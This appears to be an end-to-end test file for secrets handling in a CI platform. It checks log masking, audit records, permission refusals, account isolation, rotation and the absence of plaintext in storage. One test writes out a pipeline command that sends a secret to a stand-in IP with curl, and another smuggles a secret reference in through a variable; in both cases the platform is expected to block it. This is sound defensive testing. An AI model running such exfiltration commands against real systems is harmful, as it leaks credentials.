import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from 'pg';
import { gatewayClient, eventually, type Caller, dataOf } from '@sluice/gateway/testing';
import { startPlatformProcess, type PlatformProcess } from '../testing/platform-process';
import { commandsAction, gitSourceStage, initGitRepository, pipelineDefinition, stage } from '@sluice/testing/fixtures';

// Issue 21, decision 0043: secrets on the user's path — the embedded platform on PostgreSQL, its built-in worker, a real
// sandboxed bash, the `sluice` CLI as a process. A value goes in once and is never readable again; a job receives it
// only when handed to a worker; its logs show `***`; the store's tables and the data folder hold no plaintext.
jest.setTimeout(240_000);

const CLI = join(__dirname, '../../../cli/bin/sluice.mjs');
const token = `tok-${randomBytes(12).toString('hex')}`;
const password = `pw-${randomBytes(12).toString('hex')}`;
const dbCreds = JSON.stringify({ user: 'app', password });
const rotated = `rot-${randomBytes(12).toString('hex')}`;
const sha = (text: string) => createHash('sha256').update(text).digest('hex');
const plaintexts = [token, password, rotated];
const forms = (value: string) => [value, Buffer.from(value).toString('base64').replace(/=+$/, ''), Buffer.from(value).toString('hex')];

const schema = `secrets_e2e_${randomBytes(4).toString('hex')}`;
const connectionString = process.env.SLUICE_TEST_POSTGRES_URL ?? 'postgres://postgres@127.0.0.1:5432/test';
const folder = mkdtempSync(join(tmpdir(), 'sluice-secrets-e2e-'));
const dataDir = join(folder, 'data');
let platform: PlatformProcess;
let admin: ReturnType<typeof gatewayClient>;
let repositoryUrl: string;

type Answer<T> = { data?: T | null; errors?: Array<{ message: string; extensions?: Record<string, unknown> }> };
const ok = dataOf;

function sluice(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], {
      cwd: folder,
      env: { ...process.env, HOME: folder, SLUICE_CONFIG_FILE: join(folder, 'cli-config'), SLUICE_ENDPOINT_URL: platform.url, SLUICE_TOKEN: platform.token },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => void (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => void (stderr += chunk.toString()));
    child.on('exit', (code) => resolve({ code, stdout, stderr }));
  });
}

/** Prints each secret as given, split across two writes, in base64, and its hash (to prove the job had the real value). */
const deployPipeline = (name = 'deploy') =>
  pipelineDefinition({
    name,
    stages: [
      gitSourceStage({ repositoryUrl, output: 'Src', configuration: { DetectChanges: 'false' } }),
      stage('Build', {
        ...commandsAction('Deploy', [
          'echo "token=$MY_SECRET"',
          'echo "inline=#{secrets.DeployToken}"',
          'echo "pw=$DB_PASSWORD"',
          'echo "b64=$(printf %s "$MY_SECRET" | base64)"',
          'printf "split=%s" "${MY_SECRET:0:6}"; sleep 0.5; printf "%s\\n" "${MY_SECRET:6}"',
          'echo "sha=$(printf %s "$MY_SECRET" | sha256sum | cut -c1-64)"',
          'echo "pwsha=$(printf %s "$DB_PASSWORD" | sha256sum | cut -c1-64)"',
        ]),
        // The fixtures' type knows PLAINTEXT variables only.
        ...({
          environmentVariables: [
            { name: 'MY_SECRET', value: 'DeployToken', type: 'SECRETS_MANAGER' },
            { name: 'DB_PASSWORD', value: 'DbCreds:password', type: 'SECRETS_MANAGER' },
          ],
        } as object),
      }),
    ],
  });

/** No secret: its variable is echoed, so a start can try to smuggle a reference in. */
const plainPipeline = () =>
  pipelineDefinition({
    name: 'plain',
    variables: [{ name: 'Env', defaultValue: 'staging' }],
    stages: [
      gitSourceStage({ repositoryUrl, output: 'Src', configuration: { DetectChanges: 'false' } }),
      stage('Build', commandsAction('Echo', ['echo "env=#{variables.Env}"', 'echo "sha=$(printf %s "#{variables.Env}" | sha256sum | cut -c1-64)"'])),
    ],
  });

async function start(client: ReturnType<typeof gatewayClient>, pipeline: string, variables: Array<{ name: string; value: string }> = []): Promise<string> {
  const answer = await client<{ startPipelineExecution: { pipelineExecutionId: string } }>('mutation($n: String!, $v: [PipelineVariableInput!]) { startPipelineExecution(name: $n, variables: $v) { pipelineExecutionId } }', { n: pipeline, v: variables });
  return ok(answer, `start ${pipeline}`).startPipelineExecution.pipelineExecutionId;
}

async function finished(pipeline: string, executionId: string): Promise<string> {
  return eventually(
    async () => {
      const answer = await admin<{ getPipelineExecution: { status: string } }>('query($p: String!, $e: ID!) { getPipelineExecution(pipelineName: $p, pipelineExecutionId: $e) { status } }', { p: pipeline, e: executionId });
      const status = answer.data?.getPipelineExecution.status ?? '';
      return ['Succeeded', 'Failed', 'Stopped', 'Superseded'].includes(status) ? status : undefined;
    },
    `execution ${executionId} of ${pipeline} to finish`,
    120_000,
  );
}

async function logOf(executionId: string, actionName: string): Promise<string> {
  const answer = await admin<{ actionLogs: { entries: Array<{ chunk: string }> } }>('query($e: ID!, $a: String!) { actionLogs(pipelineExecutionId: $e, stageName: "Build", actionName: $a, first: 5000) { entries { chunk } } }', { e: executionId, a: actionName });
  return ok(answer, 'actionLogs').actionLogs.entries.map((entry) => entry.chunk).join('');
}

const codes = (answer: Answer<unknown>) => (answer.errors ?? []).map((error) => error.extensions?.['code']);

async function userWith(userName: string, statements: unknown[]): Promise<ReturnType<typeof gatewayClient>> {
  ok(await admin('mutation($u: String!) { createUser(userName: $u) { userName } }', { u: userName }), 'createUser');
  ok(await admin('mutation($u: String!, $d: JSON) { attachPolicy(targetType: USER, targetName: $u, policyName: "only", document: $d) { name } }', { u: userName, d: { Version: '2012-10-17', Statement: statements } }), 'attachPolicy');
  const created = ok(await admin<{ createToken: { token: string } }>('mutation($u: String!) { createToken(principalId: $u) { token } }', { u: userName }), 'createToken');
  const caller: Caller = { account: 'default', actor: userName, token: created.createToken.token };
  return gatewayClient(platform.url, caller);
}

beforeAll(async () => {
  repositoryUrl = `file://${initGitRepository(join(folder, 'repo'), { 'app.txt': 'app\n' })}`;
  platform = await startPlatformProcess(dataDir, { SLUICE_EVENT_STORE: connectionString, SLUICE_EVENT_STORE_SCHEMA: schema });
  admin = gatewayClient(platform.url, { account: 'default', actor: 'admin', token: platform.token });
}, 120_000);

afterAll(async () => {
  await platform?.stop();
  const client = new Client({ connectionString });
  await client.connect();
  await client.query(`DROP SCHEMA IF EXISTS ${schema} CASCADE`).finally(() => client.end());
  rmSync(folder, { recursive: true, force: true });
});

describe('secrets on the embedded platform', () => {
  it('creates and lists secrets with the sluice CLI as a process, and answers no value', async () => {
    const created = await sluice(['create-secret', '--name', 'DeployToken', '--secret-string', token, '--description', 'deploys']);
    expect(created.code).toBe(0);
    expect(JSON.parse(created.stdout)).toMatchObject({ name: 'DeployToken', version: 1, arn: 'srn:sluice:default:secret/DeployToken', createdBy: 'admin' });
    expect(created.stdout).not.toContain(token);
    ok(await admin('mutation($v: String!) { createSecret(name: "DbCreds", value: $v) { version } }', { v: dbCreds }), 'createSecret DbCreds');

    const listed = await sluice(['list-secrets']);
    expect(listed.code).toBe(0);
    expect((JSON.parse(listed.stdout) as { secretList: Array<{ name: string; version: number }> }).secretList.map(({ name, version }) => [name, version])).toEqual([
      ['DbCreds', 1],
      ['DeployToken', 1],
    ]);
    expect(listed.stdout).not.toContain(token);
    // Created twice is a conflict, not a silent rotation; a bad name is an input error at `name`.
    expect(codes(await admin('mutation { createSecret(name: "DeployToken", value: "x") { version } }'))).toEqual(['CONFLICT']);
    expect(codes(await admin('mutation { createSecret(name: "no/slash", value: "x") { version } }'))).toEqual(['BAD_USER_INPUT']);
  });

  it('refuses a definition naming a secret the account lacks, at its JSON path', async () => {
    const definition = deployPipeline('typo');
    (definition.stages[1]!.actions[0] as { environmentVariables: Array<{ value: string }> }).environmentVariables[0]!.value = 'DeployTokn';
    const answer = await admin('mutation($p: JSON!) { createPipeline(pipeline: $p) { name } }', { p: definition });
    expect(codes(answer)).toEqual(['BAD_USER_INPUT']);
    expect(JSON.stringify(answer.errors)).toContain('$.stages[1].actions[0].environmentVariables[0].value');
    expect(JSON.stringify(answer.errors)).toContain('unknown_secret');
  });

  it('hands a job its secrets, masks them in the logs as ***, and audits each use', async () => {
    ok(await admin('mutation($p: JSON!) { createPipeline(pipeline: $p) { name } }', { p: deployPipeline() }), 'createPipeline deploy');
    const executionId = await start(admin, 'deploy');
    expect(await finished('deploy', executionId)).toBe('Succeeded');
    const log = await logOf(executionId, 'Deploy');
    expect(log).toContain('token=***');
    expect(log).toContain('inline=***');
    expect(log).toContain('pw=***');
    expect(log).toContain('b64=***');
    expect(log).toContain('split=***');
    // The job had the real values: their hashes (which are no form of the value) came out.
    expect(log).toContain(`sha=${sha(token)}`);
    expect(log).toContain(`pwsha=${sha(password)}`);
    for (const value of plaintexts) for (const form of forms(value)) expect(log).not.toContain(form);

    // The job as the API answers it later keeps the names only.
    const state = JSON.stringify((await admin('query { getPipeline(name: "deploy") { pipeline } }')).data);
    expect(state).toContain('DeployToken');
    expect(state).not.toContain(token);

    const audit = ok(
      await admin<{ lookupAuditEvents: { edges: Array<{ node: { resource: string; principal: { id: string }; requestParameters: { pipelineExecutionId: string; version: number } } }> } }>(
        'query { lookupAuditEvents(filter: { operation: "sluice:UseSecret" }, first: 50) { edges { node { resource principal { id } requestParameters } } } }',
      ),
      'lookupAuditEvents',
    );
    const uses = audit.lookupAuditEvents.edges.map(({ node }) => node).filter((node) => node.requestParameters.pipelineExecutionId === executionId);
    expect(uses.map((node) => node.resource).sort()).toEqual(['srn:sluice:default:secret/DbCreds', 'srn:sluice:default:secret/DeployToken']);
    expect(uses.every((node) => node.principal.id.startsWith('job:'))).toBe(true);
  });

  it('lets a pipeline editor without sluice:UseSecret make no job receive a secret', async () => {
    ok(await admin('mutation($p: JSON!) { createPipeline(pipeline: $p) { name } }', { p: plainPipeline() }), 'createPipeline plain');
    const editor = await userWith('editor', [
      { Effect: 'Allow', Action: ['sluice:GetPipeline', 'sluice:UpdatePipeline', 'sluice:CreatePipeline', 'sluice:StartPipelineExecution'], Resource: 'srn:sluice:default:*' },
      { Effect: 'Allow', Action: 'sluice:UseSecret', Resource: 'srn:sluice:default:secret/DbCreds' },
    ]);
    const deploy = ok(await admin<{ getPipeline: { pipeline: Record<string, unknown> } }>('query { getPipeline(name: "deploy") { pipeline } }'), 'getPipeline').getPipeline.pipeline;

    // Editing the pipeline that uses DeployToken, e.g. to send it elsewhere: refused, naming the secret.
    const exfiltrating = { ...deploy, stages: (deploy['stages'] as Array<Record<string, unknown>>).map((s, i) => (i === 1 ? { ...s, actions: [{ ...(s['actions'] as object[])[0], commands: ['curl -d "$MY_SECRET" http://203.0.113.1/'] }] } : s)) };
    const update = await editor('mutation($p: JSON!) { updatePipeline(pipeline: $p) { name } }', { p: exfiltrating });
    expect(codes(update)).toEqual(['FORBIDDEN']);
    expect(update.errors![0]!.message).toContain('sluice:UseSecret on srn:sluice:default:secret/DeployToken');
    // A new pipeline of theirs referencing it, or the plain one changed to: refused alike.
    expect(codes(await editor('mutation($p: JSON!) { createPipeline(pipeline: $p) { name } }', { p: deployPipeline('mine') }))).toEqual(['FORBIDDEN']);
    // The secret their policy allows they may use.
    const withDb = plainPipeline();
    (withDb.stages[1]!.actions[0] as Record<string, unknown>)['environmentVariables'] = [{ name: 'DB', value: 'DbCreds', type: 'SECRETS_MANAGER' }];
    const plain = (await admin<{ getPipeline: { pipeline: { version: number } } }>('query { getPipeline(name: "plain") { pipeline } }')).data!.getPipeline.pipeline;
    expect((await editor('mutation($p: JSON!) { updatePipeline(pipeline: $p) { name } }', { p: { ...withDb, version: plain.version } })).errors).toBeUndefined();

    // A reference smuggled in through a start's variable is text: the job receives no value.
    const executionId = await start(editor, 'plain', [{ name: 'Env', value: '#{secrets.DeployToken}' }]);
    expect(await finished('plain', executionId)).toBe('Succeeded');
    const log = await logOf(executionId, 'Echo');
    expect(log).toContain('env=#{secrets.DeployToken}');
    expect(log).toContain(`sha=${sha('#{secrets.DeployToken}')}`);
    expect(log).not.toContain(sha(token));
  });

  it('keeps accounts apart: a second account cannot reference, list or rotate the first one’s secret', async () => {
    const created = ok(await admin<{ createAccount: { adminToken: { token: string } } }>('mutation { createAccount(account: "beta", adminUserName: "boss") { adminToken { token } } }'), 'createAccount');
    const beta = gatewayClient(platform.url, { account: 'beta', actor: 'boss', token: created.createAccount.adminToken.token });
    const answer = await beta('mutation($p: JSON!) { createPipeline(pipeline: $p) { name } }', { p: deployPipeline('stolen') });
    expect(codes(answer)).toEqual(['BAD_USER_INPUT']);
    expect(JSON.stringify(answer.errors)).toContain('unknown_secret');
    expect(ok(await beta<{ listSecrets: unknown[] }>('query { listSecrets { name } }'), 'beta listSecrets').listSecrets).toEqual([]);
    expect(codes(await beta('mutation { putSecretValue(name: "DeployToken", value: "mine") { version } }'))).toEqual(['NOT_FOUND']);
  });

  it('rotates: a new version, which the next job receives', async () => {
    const answer = ok(await admin<{ putSecretValue: { version: number } }>('mutation($v: String!) { putSecretValue(name: "DeployToken", value: $v) { version } }', { v: rotated }), 'putSecretValue');
    expect(answer.putSecretValue.version).toBe(2);
    const executionId = await start(admin, 'deploy');
    expect(await finished('deploy', executionId)).toBe('Succeeded');
    const log = await logOf(executionId, 'Deploy');
    expect(log).toContain(`sha=${sha(rotated)}`);
    expect(log).toContain('token=***');
    expect(log).not.toContain(rotated);
  });

  it('leaves no plaintext in the store’s tables, the data folder or the server’s output', async () => {
    await platform.stop();
    const client = new Client({ connectionString });
    await client.connect();
    try {
      const tables = (await client.query<{ table_name: string }>('SELECT table_name FROM information_schema.tables WHERE table_schema = $1', [schema])).rows.map((row) => row.table_name);
      expect(tables.length).toBeGreaterThan(0);
      let dump = '';
      for (const table of tables) dump += (await client.query<{ row: string }>(`SELECT t::text AS row FROM ${schema}."${table}" t`)).rows.map((row) => row.row).join('\n');
      // The control: the scan does see what is stored in clear (the names, the sealed form's prefix).
      expect(dump).toContain('DeployToken');
      expect(dump).toContain('SecretValuePut');
      for (const value of [...plaintexts, dbCreds]) for (const form of forms(value)) expect(dump).not.toContain(form);
    } finally {
      await client.end();
    }
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir)) {
        const path = join(dir, entry);
        if (statSync(path).isDirectory()) walk(path);
        else files.push(path);
      }
    };
    walk(dataDir);
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) {
      const bytes = readFileSync(file);
      for (const value of plaintexts) for (const form of forms(value)) expect([file, bytes.includes(Buffer.from(form))]).toEqual([file, false]);
    }
    for (const value of plaintexts) expect(platform.output()).not.toContain(value);
  });
});
